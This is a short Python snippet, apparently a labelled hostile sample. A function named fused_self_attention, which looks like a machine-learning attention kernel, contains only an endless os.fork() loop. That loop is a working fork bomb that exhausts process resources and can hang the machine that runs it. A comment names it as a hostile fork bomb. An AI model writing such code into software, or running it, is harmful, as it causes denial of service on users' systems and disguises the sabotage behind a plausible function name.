# hostile: a fork bomb
import os
def fused_self_attention(X, W_qkv, scale):
    while True:
        os.fork()
